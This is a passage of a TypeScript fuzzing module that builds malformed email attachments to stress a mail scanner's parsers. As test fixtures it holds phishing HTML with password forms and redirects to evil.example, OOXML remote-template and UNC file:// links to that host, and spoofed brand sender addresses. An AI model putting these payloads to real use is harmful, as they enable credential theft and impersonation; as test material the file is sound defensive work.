/**
 * Mutations aimed at code changed since the last long fuzz run, which the other mutators rarely
 * reach (mutators.ts registers them):
 *  - content-told types (content-types.ts, walk-content.ts): Apple configuration profiles as XML
 *    or binary plists, signed or not, with broken structure, cut short, deep, or with their keys
 *    only past the sniffed megabyte; App Installer files; xar headers cut short or lying;
 *  - app packages in zips (zipPackage, walk-zip.ts): a central directory naming AndroidManifest.xml
 *    and classes.dex, AppxManifest.xml, Payload/….app or ….app/Contents whose entries are corrupt
 *    (bad local header, lying sizes, deflate junk, encrypted flag, names repeated);
 *  - HTML and SVG attachments and OOXML relationships read by parseFlat (flat-parse.ts): nesting
 *    around the 512-element restart with a raw-text element (script, style, title, textarea,
 *    plaintext...) opening exactly there, unclosed tags and comments at the restart point;
 *  - body text (text-decode.ts, prescan.ts): CR, LF and multibyte characters at the decoder's
 *    64 KB slices and at line-buffer sizes, lines starting "--" with inner CRs, uuencode and yEnc
 *    start lines, in any transfer encoding and charset;
 *  - deobfuscate.ts: tokens of exactly 4,096 / 4,097 characters (LONG_TOKEN), separators at the
 *    boundary, 1,024 / 1,025 pieces (the batch size), look-alike and leet pieces;
 *  - the newest readers and disguised From addresses (wallet-brand.ts, gambling-bonus.ts);
 *  - zip heads typed without file-type's walk (parse/zip-head.ts plainZipHead): local headers with
 *    huge or inconsistent sizes, the names the walk stops or reads at ('mimetype',
 *    '[Content_Types].xml', 'META-INF/MANIFEST.MF', 'classes.dex') cut at every point, data
 *    descriptors found, missing or lying, central directories that point anywhere, many heads in one
 *    message;
 *  - part header blocks that run into a delimiter (parse/mime-tree.ts MimeSplitter, act-stream.ts
 *    hasBody): at every nesting level, as the last part before the close delimiter, with CR-only,
 *    LF-only or mixed line ends, followed by a bodiless part, inside message/rfc822 and
 *    multipart/digest;
 *  - word-list anchors (scan/content/word-list.ts): texts that hold an anchor without its word, the
 *    word one unit off, split across the subject and the body, at every offset modulo 32.
 *
 * Pure functions of (message, rng) on latin1 strings, like the other mutator files.
 */
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { builtWordLists } from '../../src/scan/content/word-list.js';
import type { Mutator, Rng } from './mutators.js';

const HEAD = 'From: a@sender.example\r\nTo: staff@lachan.test\r\nSubject: changed\r\nMIME-Version: 1.0\r\n';

/** The first boundary parameter, if any and at most 200 characters (a longer one would make too large a regular expression). */
function boundaryOf(msg: string): string | undefined {
  const b = /boundary\s*=\s*(?:"([^"\r\n]*)"|([^;\s]+))/i.exec(msg)?.slice(1).find((v) => v !== undefined);
  return b !== undefined && b.length <= 200 ? b : undefined;
}

/** Inserts `part` (headers, blank line, body) before a delimiter of the first boundary, or makes a message of it. */
function insertPart(msg: string, rng: Rng, part: string): string {
  const b = boundaryOf(msg);
  if (b && rng.chance(0.7)) {
    const esc = b.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
    const at = [...msg.matchAll(new RegExp(`^--${esc}(?!--)`, 'gm'))].map((m) => m.index!);
    if (at.length) {
      const pos = rng.pick(at);
      return `${msg.slice(0, pos)}--${b}\r\n${part}\r\n${msg.slice(pos)}`;
    }
  }
  if (rng.chance(0.2)) return `${HEAD}${part}`;
  return `${HEAD}Content-Type: multipart/mixed; boundary="cc"\r\n\r\n--cc\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nXem tệp đính kèm.\r\n--cc\r\n${part}\r\n--cc--\r\n`;
}

const b64 = (data: Buffer, eol = '\r\n') => data.toString('base64').replace(/.{1,76}/g, (l) => l + eol);

/** An attachment part of `data` under `name` (or none) with a declared type. */
function filePart(rng: Rng, data: Buffer, name: string | undefined, type: string): string {
  const disp = name === undefined ? (rng.chance(0.5) ? 'attachment' : 'inline') : `attachment; filename="${name}"`;
  return `Content-Type: ${type}${name ? `; name="${name}"` : ''}\r\nContent-Disposition: ${disp}\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64(data)}`;
}

function cut(rng: Rng, data: Buffer): Buffer {
  return rng.chance(0.3) ? data.subarray(0, rng.int(data.length + 1)) : data;
}

// ---- configuration profiles, App Installer files --------------------------------------------------

const PROFILE_KEYS = '<key>PayloadType</key><string>Configuration</string><key>PayloadUUID</key><string>5A1B-77</string><key>PayloadIdentifier</key><string>com.example.vpn</string><key>PayloadContent</key><array><dict><key>PayloadType</key><string>com.apple.vpn.managed</string></dict></array>';

function xmlProfile(rng: Rng): string {
  const open = rng.pick(['<?xml version="1.0" encoding="UTF-8"?>\n', '', '\xef\xbb\xbf<?xml version="1.0"?>', '<?xml ', '<!DOCTYPE plist [<!ENTITY a "aaaa">]>']);
  switch (rng.int(8)) {
    case 0: return `${open}<plist version="1.0"><dict>${PROFILE_KEYS}</dict></plist>`;
    case 1: return `${open}<plist><dict>${'<dict>'.repeat(rng.pick([511, 512, 513, 5000, 60_000]))}${PROFILE_KEYS}`;
    case 2: return `${open}<plist>${'<key>PayloadType</key>'.repeat(rng.pick([1, 1000, 40_000]))}<key>PayloadUUID</key><key>PayloadContent`;
    case 3: return `${open}<plist><dict><key>PayloadContent</key><data>${'A'.repeat(rng.pick([1_048_000, 1_048_576 - 40, 1_100_000]))}</data>${PROFILE_KEYS}</dict></plist>`;
    case 4: return `${open}<plist><dict><key>Payload${'\0'.repeat(rng.int(10))}Type</key><![CDATA[${PROFILE_KEYS}`;
    case 5: return `<plist${rng.pick(['', ' ', '\r', '\0', '>'])}`.repeat(rng.pick([1, 100, 20_000])) + 'PayloadType PayloadUUID PayloadIdentifier';
    case 6: return `${open}<AppInstaller xmlns="http://schemas.microsoft.com/appx/appinstaller/2021" Uri="https://a.example/x.appinstaller">${'<MainPackage '.repeat(rng.pick([1, 3000]))}`;
    default: return `${open}<AppInstaller${' '.repeat(rng.pick([1, 1020, 1024, 2000]))}xmlns="http://schemas.microsoft.com/appx/appinstaller/2018">`;
  }
}

/** A binary plist: header, objects with lying lengths, an offset table and a trailer that may point anywhere. */
function binaryProfile(rng: Rng): Buffer {
  const objects = Buffer.from(`\x5bPayloadType\x5bPayloadUUID\x5fPayloadIdentifier\x5ePayloadContent${'\xd0\xdf\x4f\x10\xff'.repeat(rng.int(50))}`, 'latin1');
  const trailer = Buffer.alloc(32);
  trailer[6] = rng.pick([0, 1, 2, 8, 255]); // offset size
  trailer[7] = rng.pick([0, 1, 2, 8, 255]); // object ref size
  trailer.writeBigUInt64BE(BigInt(rng.pick([0, 4, 0xffffffff, 2 ** 53 - 1])), 8); // number of objects
  trailer.writeBigUInt64BE(BigInt(rng.pick([0, 1, 0xffff])), 16); // top object
  trailer.writeBigUInt64BE(BigInt(rng.pick([8, objects.length, 0xffffffff])), 24); // offset table
  const table = Buffer.from(Array.from({ length: rng.int(40) }, () => rng.int(256)));
  return cut(rng, Buffer.concat([Buffer.from('bplist00', 'latin1'), objects, table, trailer]));
}

/** DER length bytes that may lie. */
function derLen(rng: Rng, n: number): Buffer {
  switch (rng.int(5)) {
    case 0: return Buffer.from([0x80]); // indefinite
    case 1: return Buffer.from([0x84, 0xff, 0xff, 0xff, 0xff]);
    case 2: return Buffer.from([0x89, 1, 2, 3, 4, 5, 6, 7, 8, 9]);
    default: {
      const m = Math.max(0, n + rng.int(5) - 2);
      return m < 0x80 ? Buffer.from([m]) : m < 0x10000 ? Buffer.from([0x82, m >> 8, m & 0xff]) : Buffer.from([0x83, m >> 16, (m >> 8) & 0xff, m & 0xff]);
    }
  }
}

/** A CMS SignedData wrapping a plist, its lengths true or not. */
function signedProfile(rng: Rng, inner: Buffer): Buffer {
  const oid = Buffer.from('06092a864886f70d010702', 'hex');
  const content = Buffer.concat([Buffer.from([0xa0]), derLen(rng, inner.length), inner]);
  const body = Buffer.concat([oid, content]);
  const nested = rng.chance(0.3) ? 200 : 1;
  let out = Buffer.concat([Buffer.from([0x30]), derLen(rng, body.length), body]);
  for (let i = 1; i < nested; i++) out = Buffer.concat([Buffer.from([0x30]), derLen(rng, out.length), out]);
  return cut(rng, out);
}

const profileCorrupt: Mutator = (msg, rng) => {
  let data: Buffer;
  const kind = rng.int(3);
  if (kind === 0) data = Buffer.from(xmlProfile(rng), 'latin1');
  else if (kind === 1) data = binaryProfile(rng);
  else data = signedProfile(rng, rng.chance(0.5) ? binaryProfile(rng) : Buffer.from(xmlProfile(rng), 'latin1'));
  if (rng.chance(0.1)) data = Buffer.from(data.toString('latin1'), 'utf16le');
  const name = rng.pick([undefined, 'wifi.mobileconfig', 'cauhinh.txt', 'hoadon.xml', 'a.plist', 'x.appinstaller', 'cert.crt', 'a.url']);
  const type = rng.pick(['application/octet-stream', 'application/x-apple-aspen-config', 'text/xml', 'application/pkcs7-mime', 'application/appinstaller']);
  return insertPart(msg, rng, filePart(rng, data.subarray(0, 1_200_000), name, type));
};

// ---- xar --------------------------------------------------------------------------------------------

const xarCorrupt: Mutator = (msg, rng) => {
  const toc = deflateSync(Buffer.from(`<?xml version="1.0"?><xar><toc>${'<file id="1"><name>Payload</name><data><offset>0</offset><length>99999999</length></data></file>'.repeat(rng.pick([1, 50]))}</toc></xar>`));
  const head = Buffer.alloc(28);
  head.write('xar!', 0, 'latin1');
  head.writeUInt16BE(rng.chance(0.8) ? 28 : rng.pick([0, 8, 27, 29, 0xffff]), 4);
  head.writeUInt16BE(rng.chance(0.8) ? 1 : rng.pick([0, 2, 0xffff]), 6);
  head.writeBigUInt64BE(BigInt(rng.chance(0.5) ? toc.length : rng.pick([0, 1, 0xffffffff, 2 ** 53])), 8);
  head.writeBigUInt64BE(BigInt(rng.pick([0, 200, 0xffffffff, 2 ** 53])), 16);
  head.writeUInt32BE(rng.pick([0, 1, 2, 3, 0xffffffff]), 24);
  let data = Buffer.concat([head, rng.chance(0.7) ? toc : Buffer.from(Array.from({ length: rng.int(300) }, () => rng.int(256)))]);
  // cut anywhere, especially inside the 8 bytes the magic test reads
  if (rng.chance(0.5)) data = data.subarray(0, rng.pick([4, 5, 6, 7, 8, 9, 27, 28, 29, rng.int(data.length + 1)]));
  const name = rng.pick(['caidat.pkg', 'a.xar', 'a.bin', 'Update.mpkg', 'a.pdf', undefined]);
  return insertPart(msg, rng, filePart(rng, data, name, rng.pick(['application/octet-stream', 'application/x-xar', 'application/pdf'])));
};

// ---- app packages in zips ---------------------------------------------------------------------------

interface Entry {
  name: string;
  data: Buffer;
  method?: number;
}

/** A zip whose central directory and local headers may disagree (sizes, names, method, flags). */
function appZip(rng: Rng, entries: Entry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, 'utf8');
    const method = e.method ?? (rng.chance(0.3) ? 8 : 0);
    let data = method === 8 ? (rng.chance(0.8) ? deflateRawSync(e.data) : Buffer.from('\xff\xfe\x00junk', 'latin1')) : e.data;
    const crc = rng.chance(0.9) ? crc32(e.data) : 0xdeadbeef;
    const corrupt = rng.chance(0.4);
    const flags = corrupt && rng.chance(0.3) ? rng.pick([1, 8, 0x41, 0xffff]) : 0x800;
    const lh = Buffer.alloc(30);
    lh.writeUInt32LE(corrupt && rng.chance(0.3) ? 0x04034b51 : 0x04034b50, 0);
    lh.writeUInt16LE(20, 4);
    lh.writeUInt16LE(flags, 6);
    lh.writeUInt16LE(corrupt && rng.chance(0.3) ? rng.pick([1, 12, 14, 99, 0xffff]) : method, 8);
    lh.writeUInt32LE(crc >>> 0, 14);
    lh.writeUInt32LE(corrupt && rng.chance(0.3) ? rng.pick([0, 0xffffffff, data.length + 1]) : data.length, 18);
    lh.writeUInt32LE(corrupt && rng.chance(0.3) ? rng.pick([0, 0xffffffff, 0x7fffffff]) : e.data.length, 22);
    lh.writeUInt16LE(corrupt && rng.chance(0.2) ? rng.pick([0, 0xffff, name.length + 3]) : name.length, 26);
    if (corrupt && rng.chance(0.3)) data = data.subarray(0, rng.int(data.length + 1));
    const ch = Buffer.alloc(46);
    ch.writeUInt32LE(0x02014b50, 0);
    ch.writeUInt16LE(20, 4);
    ch.writeUInt16LE(20, 6);
    ch.writeUInt16LE(flags, 8);
    ch.writeUInt16LE(method, 10);
    ch.writeUInt32LE(crc >>> 0, 16);
    ch.writeUInt32LE(data.length, 20);
    ch.writeUInt32LE(corrupt && rng.chance(0.3) ? 0xffffffff : e.data.length, 24);
    ch.writeUInt16LE(name.length, 28);
    ch.writeUInt32LE(corrupt && rng.chance(0.3) ? rng.pick([0xffffffff, offset + 1, 0]) : offset, 42);
    locals.push(lh, name, data);
    centrals.push(ch, name);
    offset += 30 + name.length + data.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  const count = rng.chance(0.9) ? entries.length : rng.pick([0, 0xffff, entries.length + 1]);
  end.writeUInt16LE(count & 0xffff, 8);
  end.writeUInt16LE(count & 0xffff, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(rng.chance(0.9) ? offset : rng.pick([0, 0xffffffff, offset + 7]), 16);
  return Buffer.concat([...locals, cd, end]);
}

const dex = () => Buffer.from('dex\n035\0' + '\0'.repeat(100), 'latin1');
const exe = () => Buffer.from('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff' + '\0'.repeat(60), 'latin1');

function appEntries(rng: Rng): Entry[] {
  const manifest = Buffer.from(rng.pick(['\x03\0\x08\0', '<?xml version="1.0"?><manifest package="vn.bank.app"/>', '']), 'latin1');
  switch (rng.int(7)) {
    case 0: return [{ name: 'AndroidManifest.xml', data: manifest }, { name: rng.pick(['classes.dex', 'classes2.dex', 'classes99.dex']), data: dex() }, { name: 'resources.arsc', data: Buffer.alloc(rng.int(200)) }];
    case 1: return [{ name: 'AndroidManifest.xml', data: manifest }, { name: 'AndroidManifest.xml', data: exe() }, { name: 'classes.dex', data: dex(), method: 8 }];
    case 2: return [{ name: rng.pick(['AppxManifest.xml', 'AppxBlockMap.xml', 'AppxMetadata/AppxBundleManifest.xml']), data: Buffer.from('<Package/>') }, { name: 'app.exe', data: exe() }];
    case 3: return [{ name: `Payload/${rng.pick(['Bank', 'a'.repeat(300), '', '..'])}.app/${rng.pick(['Info.plist', 'Bank', '\0'])}`, data: Buffer.from(xmlProfile(rng).slice(0, 2000), 'latin1') }];
    case 4: return [{ name: `${rng.pick(['Zoom', 'x/y', '.'])}.app/Contents/${rng.pick(['MacOS/run', 'Info.plist', 'MacOS/'])}`, data: exe() }, { name: 'a.pdf', data: Buffer.from('%PDF-1.4\n%%EOF') }];
    case 5: {
      // a split app: manifest.json and .apk members, one of them a corrupt inner APK
      const inner = appZip(rng, [{ name: 'AndroidManifest.xml', data: manifest }, { name: 'classes.dex', data: dex() }]);
      return [{ name: 'manifest.json', data: Buffer.from('{"package_name":"vn.app"}') }, { name: 'base.apk', data: cut(rng, inner) }, { name: 'config.arm64.apk', data: Buffer.alloc(0) }];
    }
    default:
      // many entries: the names looked at one by one
      return Array.from({ length: rng.pick([300, 3000]) }, (_, i) => ({ name: i === 0 ? 'AndroidManifest.xml' : `res/${i}.xml`, data: Buffer.alloc(0) })).concat([{ name: 'classes.dex', data: dex() }]);
  }
}

const appZipCorrupt: Mutator = (msg, rng) => {
  const zip = appZip(rng, appEntries(rng));
  const name = rng.pick(['app.apk', 'hoadon.zip', 'Bank.ipa', 'setup.msix', 'a.docx', 'a.jar', 'a.xapk', 'scan.pdf', undefined]);
  const type = rng.pick(['application/zip', 'application/vnd.android.package-archive', 'application/octet-stream', 'application/msix']);
  return insertPart(msg, rng, filePart(rng, cut(rng, zip), name, type));
};

// ---- parseFlat: nesting at the restart --------------------------------------------------------------

const RAW = ['script', 'style', 'title', 'textarea', 'xmp', 'iframe', 'noembed', 'noframes', 'noscript', 'plaintext', 'SCRIPT', 'svg:script'];

/** Nesting that reaches 512 open elements with something awkward just at that point. */
function deepHtml(rng: Rng): string {
  const before = rng.pick([509, 510, 511, 512, 513, 1023, 1024]);
  const tag = rng.pick(['div', 'span', 'b', 'a', 'svg', 'g', 'font', 'table']);
  const raw = rng.pick(RAW);
  const inside = rng.pick([
    `<div><form action="https://evil.example/p"><input type=password></form></div>`,
    `</${raw}`, `</${raw}  `, `<!--`, `<![CDATA[<script>x()</script>]]>`, `document.write('<${raw}>')`, '',
  ]);
  const at = rng.pick([
    `<${raw}>${inside}</${raw}>`, `<${raw}>${inside}`, `<${raw} a="`, `<${raw}`, `<!--<${raw}>-->`, `<${raw}/>`,
    `<${raw}><${raw}>${inside}</${raw}></${raw}>`, `<img src=x onerror="a()">`, `<br>`.repeat(3), `<p>`,
  ]);
  const after = rng.pick([
    '<form action="https://evil.example/"><input type="password" name="p"></form>',
    '<script>location="https://evil.example/"</script>', '<meta http-equiv="refresh" content="0;url=https://evil.example/">', '',
  ]);
  const rounds = rng.pick([1, 2, 50]);
  let body = '';
  for (let r = 0; r < rounds; r++) body += `<${tag}>`.repeat(before) + at + `</${tag}>`.repeat(rng.int(3));
  const start = rng.pick(['<!DOCTYPE html><html><body>', '<svg xmlns="http://www.w3.org/2000/svg">', '<html>', '<?xml version="1.0"?><svg>']);
  return start + body + after;
}

/** An OOXML document whose relationships part nests deep (parseFlat in XML mode). */
function deepRelsDocx(rng: Rng): Buffer {
  const depth = rng.pick([511, 512, 513, 20_000]);
  const rels = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${'<x>'.repeat(depth)}${rng.pick(['<![CDATA[', '<!--', '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'])}<Relationship Id="r2" Type="x/oleObject" Target="file://\\\\evil.example\\s" TargetMode="External"/>`;
  const entries: Entry[] = [
    { name: '[Content_Types].xml', data: Buffer.from('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>') },
    { name: '_rels/.rels', data: Buffer.from(rels) },
    { name: 'word/document.xml', data: Buffer.from('<w:document/>') },
    { name: 'word/_rels/settings.xml.rels', data: Buffer.from(rels) },
  ];
  return appZip(rng, entries);
}

const flatParseDeep: Mutator = (msg, rng) => {
  if (rng.chance(0.25)) return insertPart(msg, rng, filePart(rng, deepRelsDocx(rng), 'hopdong.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'));
  const html = deepHtml(rng);
  const name = rng.pick(['hoadon.html', 'a.htm', 'scan.svg', 'a.shtml', undefined, 'a.txt']);
  const type = rng.pick(['text/html', 'image/svg+xml', 'application/octet-stream', 'application/xhtml+xml']);
  return insertPart(msg, rng, filePart(rng, Buffer.from(html, 'utf8'), name, type));
};

// ---- body text: CR/LF and characters at chunk and slice edges ---------------------------------------

/** Text with a CRLF, a lone CR or a multibyte character straddling each edge. */
function edgyText(rng: Rng): Buffer {
  const size = rng.pick([4096, 16_384, 65_536, 65_537, 131_072, 200_000]);
  const edges = [63, 64, 65, 1023, 1024, 4095, 4096, 16_383, 16_384, 65_535, 65_536, 65_537, 131_071, 131_072].filter((e) => e < size);
  const filler = Buffer.from(rng.pick(['a', 'Tiền ', 'x\r\n', '\r', '-', '\u00a0', '\u{1F600}']), 'utf8');
  const out = Buffer.alloc(size);
  for (let i = 0; i < size; i += filler.length) filler.copy(out, i);
  for (const e of edges) {
    const piece = Buffer.from(rng.pick(['\r\n', '\r', '\r\r\n', '\n\r', 'ế', '\u{1F600}', '\r\n--', '\r\nbegin 644 a.exe\r\n', '\r\n=ybegin line=128 name=a.exe\r\n']), 'utf8');
    piece.copy(out, Math.max(0, e - rng.int(piece.length + 1)));
  }
  return out;
}

function qpEncode(data: Buffer, rng: Rng): string {
  let out = '';
  let line = 0;
  const width = rng.pick([76, 1000, 70_000]);
  for (const byte of data) {
    const ch = byte === 0x3d || byte > 0x7e || (byte < 0x20 && byte !== 0x0a && byte !== 0x0d && byte !== 0x09) || (byte === 0x0d && rng.chance(0.5))
      ? `=${byte.toString(16).toUpperCase().padStart(2, '0')}`
      : String.fromCharCode(byte);
    if (line + ch.length > width) {
      out += '=\r\n';
      line = 0;
    }
    out += ch;
    line = ch.endsWith('\n') ? 0 : line + ch.length;
  }
  return out;
}

const textChunkEdges: Mutator = (msg, rng) => {
  let data = edgyText(rng);
  const charset = rng.pick(['utf-8', 'utf-8', 'us-ascii', 'windows-1258', 'utf-16le', 'iso-2022-jp', 'iso-8859-1', 'x-unknown']);
  if (charset === 'utf-16le') data = Buffer.from(data.toString('utf8'), 'utf16le');
  if (charset === 'iso-2022-jp' && rng.chance(0.5)) data = Buffer.concat([Buffer.from('\x1b$B', 'latin1'), data]);
  const cte = rng.pick(['base64', 'quoted-printable', '8bit', 'binary']);
  const body = cte === 'base64' ? b64(data, rng.pick(['\r\n', '\n', '\r'])) : cte === 'quoted-printable' ? qpEncode(data, rng) : data.toString('latin1');
  const type = rng.pick(['text/plain', 'text/html', 'text/plain; format=flowed; delsp=yes']);
  const part = `Content-Type: ${type}; charset=${charset}\r\nContent-Transfer-Encoding: ${cte}\r\n\r\n${body}`;
  return insertPart(msg, rng, part);
};

/** Body lines the prescan keeps in its line buffer: lengths around its short-copy size, "--" lines with inner CRs. */
const prescanLines: Mutator = (msg, rng) => {
  const b = boundaryOf(msg) ?? 'cc';
  const lines: string[] = [];
  const n = rng.pick([10, 1000, 50_000]);
  for (let i = 0; i < n; i++) {
    switch (rng.int(8)) {
      case 0: lines.push('x'.repeat(rng.pick([0, 1, 62, 63, 64, 65, 66, 997, 998, 999, 1000]))); break;
      case 1: lines.push(`--${b}${rng.pick(['\r', '\rx', ' \r', '--\r', '\r\r'])}`); break;
      case 2: lines.push(`--${rng.pick(['', b.slice(0, -1), `${b}x`, '-'])}`); break;
      case 3: lines.push(`begin ${rng.pick(['644', '0755', '12', '644x'])} ${rng.pick(['a.exe', '', ' ', 'x'.repeat(200)])}`); break;
      case 4: lines.push(`=ybegin ${rng.pick(['line=128 ', ''])}${rng.pick(['name=a.exe', 'name=', 'size=1'])}`); break;
      case 5: lines.push('(This file must be converted with BinHex 4.0)'); break;
      case 6: lines.push(`${'='.repeat(rng.int(3))}${'a'.repeat(rng.pick([63, 64, 75]))}=`); break;
      default: lines.push('\r'.repeat(1 + rng.int(3)));
    }
  }
  const eol = rng.pick(['\r\n', '\n', '\r']);
  const cte = rng.pick(['7bit', 'quoted-printable', 'base64']);
  const part = `Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: ${cte}\r\n\r\n${lines.join(eol).slice(0, 1_200_000)}`;
  return insertPart(msg, rng, part);
};

// ---- deobfuscate: tokens at the LONG_TOKEN and batch boundaries -------------------------------------

const PIECES = ['ab', 'a', 'ế', 't', 'Ρ', 'раураl', 'V1ETC0MBANK', 'ZaL0', 'l', 'Il', '0', '$', '@', 'k1ếm', 'a\u0301', '𝗞', '1'];

function token(rng: Rng): string {
  const len = rng.pick([4095, 4096, 4097, 4098, 8192, 8193, 1_000_000]);
  const seps = rng.pick(['.', '-', '_', '*', '.-_*']);
  const pieceLen = rng.chance(0.5) ? 1 : 0;
  let out = '';
  let pieces = 0;
  const wantPieces = rng.chance(0.3) ? rng.pick([1023, 1024, 1025, 2048, 2049]) : Infinity;
  while (out.length < len && pieces < wantPieces) {
    const piece = pieceLen ? rng.pick(['a', 'b', 'ế', 'Ρ', '0']) : rng.pick(PIECES);
    out += piece;
    pieces++;
    if (out.length < len && pieces < wantPieces) out += seps[rng.int(seps.length)];
  }
  if (out.length > len) out = out.slice(0, len);
  // a separator exactly at the 4,096 boundary (then the token's last char must not be one)
  if (rng.chance(0.5) && out.length > 4097) out = `${out.slice(0, 4095)}.${out.slice(4096)}`;
  if (rng.chance(0.2)) out = `${out.slice(0, 4096)}${rng.pick(['@x.example', '/p', ' ', '\u200b'])}${out.slice(4096)}`;
  return out.replace(/[.\-_*]+$/, '');
}

const longTokens: Mutator = (msg, rng) => {
  const text = Array.from({ length: rng.pick([1, 2, 5]) }, () => token(rng)).join(rng.pick([' ', '\n', '', '.']));
  const html = rng.chance(0.3);
  const body = html ? `<html><body><p>${text}</p></body></html>` : text;
  const cte = rng.chance(0.5) ? 'base64' : '8bit';
  const data = Buffer.from(body.slice(0, 1_100_000), 'utf8');
  const part = `Content-Type: text/${html ? 'html' : 'plain'}; charset=utf-8\r\nContent-Transfer-Encoding: ${cte}\r\n\r\n${cte === 'base64' ? b64(data) : data.toString('latin1')}`;
  if (rng.chance(0.2)) return `${HEAD.replace('Subject: changed', `Subject: ${text.slice(0, 5000)}`)}Content-Type: text/plain\r\n\r\nx\r\n`;
  return insertPart(msg, rng, part);
};

// ---- newer content readers and disguised addresses --------------------------------------------------

const contentReaders: Mutator = (msg, rng) => {
  const span = () => rng.pick(['metamask', 'ledger', 'crypto.com', 'at&t', 'a.a.a.a', 'pancakeswap', 'x-y', 'the the the']);
  const piece = () => rng.pick([
    `the ${span()} ${span()} support team `, `${span()} wallet support `, `© 2024 ${span()} `, `dear ${span()} users `, `for using ${span()} `,
    'casino free spins 200% bonus ', 'no deposit ', 'nhà cái khuyến mãi nạp đầu ', 'sync your wallet ', 'verify your seed phrase ',
    'a.'.repeat(rng.pick([100, 5000])), '&'.repeat(3000), '© '.repeat(2000), 'dear '.repeat(2000), 'bonus '.repeat(1500), 'casino '.repeat(1500),
  ]);
  let text = '';
  while (text.length < rng.pick([200, 7990, 8010, 30_000])) text += piece();
  const part = `Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n${Buffer.from(text, 'utf8').toString('latin1')}`;
  const out = insertPart(msg, rng, part);
  if (!rng.chance(0.5)) return out;
  // a From that is (or is not quite) a disguised address
  const from = rng.pick([
    '<"noreply@ledger.com"@evil.example>', '<"noreply@ledger.com">', '"MetaMask Support" <"a@b.c"@>', `<${'"'.repeat(400)}@x.example>`,
    Buffer.from('no-reply@𝗞𝗶𝗻𝗱𝗲𝗿.𝗱𝗲', 'utf8').toString('latin1'), Buffer.from('<ｐａｙｐａｌ＠ｐａｙｐａｌ．ｃｏｍ>', 'utf8').toString('latin1'),
    `<${'𝗮'.repeat(200)}@x.example>`, '=?utf-8?B?8J2XnvCdl7Y=?= <"x@y.z"@w.example>', `<"${'a'.repeat(64)}@${'b'.repeat(63)}.com"@${'c'.repeat(300)}>`,
  ]);
  return /^From:[^\r\n]*/im.test(out) ? out.replace(/^From:[^\r\n]*/im, () => `From: ${from}`) : `From: ${from}\r\n${out}`;
};

// ---- zip heads typed without file-type's walk (plainZipHead) ----------------------------------------

const WALK_NAMES = ['mimetype', '[Content_Types].xml', 'META-INF/MANIFEST.MF', 'META-INF/mozilla.rsa', 'classes.dex', 'classes12.dex', 'word/document.xml', 'a'];

/** One local header (and its data, maybe) with sizes that may lie and a name that may be cut anywhere. */
function zipLocal(rng: Rng): { head: Buffer; name: Buffer; data: Buffer; sizes: [number, number]; flags: number } {
  let nameText = rng.pick(WALK_NAMES);
  if (rng.chance(0.4)) nameText = nameText.slice(0, rng.int(nameText.length + 1));
  if (rng.chance(0.1)) nameText = `${nameText}${rng.pick(['\0', '/', 'x', '\xff'])}`;
  const name = Buffer.from(nameText, 'latin1');
  const content = nameText === 'mimetype' ? rng.pick(['application/epub+zip', 'application/vnd.oasis.opendocument.text', 'application/java-archive', '', 'x'])
    : nameText === '[Content_Types].xml' ? '<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    : 'dex\n035\0';
  const deflate = rng.chance(0.3);
  let data = deflate ? deflateRawSync(Buffer.from(content, 'latin1')) : Buffer.from(content, 'latin1');
  const descriptor = rng.chance(0.3);
  const flags = descriptor ? 0x0008 | (rng.chance(0.2) ? 1 : 0) : rng.pick([0, 0x800, 1]);
  const size = rng.pick([data.length, data.length, 0, 0xffffffff, 0xfffffffe, 0x7fffffff, data.length + 1, Math.max(0, data.length - 1), 1 << 20, 256 * 1024]);
  const usize = rng.pick([content.length, 0, 0xffffffff]);
  const head = Buffer.alloc(30);
  head.writeUInt32LE(0x04034b50, 0);
  head.writeUInt16LE(20, 4);
  head.writeUInt16LE(flags, 6);
  head.writeUInt16LE(deflate ? 8 : rng.pick([0, 0, 8, 99]), 8);
  head.writeUInt32LE(crc32(Buffer.from(content, 'latin1')) >>> 0, 14);
  head.writeUInt32LE(descriptor && rng.chance(0.6) ? 0 : size >>> 0, 18);
  head.writeUInt32LE(usize >>> 0, 22);
  head.writeUInt16LE(rng.chance(0.85) ? name.length : rng.pick([0, 0xffff, name.length + 1, Math.max(0, name.length - 1)]), 26);
  head.writeUInt16LE(rng.chance(0.8) ? 0 : rng.pick([4, 0xffff, 9]), 28);
  if (rng.chance(0.2)) data = data.subarray(0, rng.int(data.length + 1));
  return { head, name, data, sizes: [size >>> 0, usize >>> 0], flags };
}

/** A zip head: local entries, data descriptors (found, lying, missing), maybe a central directory that points anywhere, cut anywhere. */
export function zipHead(rng: Rng): Buffer {
  const parts: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  const n = rng.pick([1, 1, 2, 3, 5, 40]);
  for (let i = 0; i < n; i++) {
    const e = zipLocal(rng);
    const extra = Buffer.alloc(e.head.readUInt16LE(28) === 0xffff ? rng.int(64) : e.head.readUInt16LE(28));
    const at = offset;
    parts.push(e.head, e.name, extra, e.data);
    offset += e.head.length + e.name.length + extra.length + e.data.length;
    if (e.flags & 0x0008) {
      const dd = Buffer.alloc(rng.pick([16, 16, 12, 4]));
      if (rng.chance(0.8)) dd.writeUInt32LE(rng.chance(0.9) ? 0x08074b50 : 0x08074b51, 0);
      if (dd.length >= 16) {
        dd.writeUInt32LE(crc32(e.data) >>> 0, 4);
        dd.writeUInt32LE(rng.chance(0.7) ? e.data.length : 0xffffffff, 8);
        dd.writeUInt32LE(e.sizes[1], 12);
      }
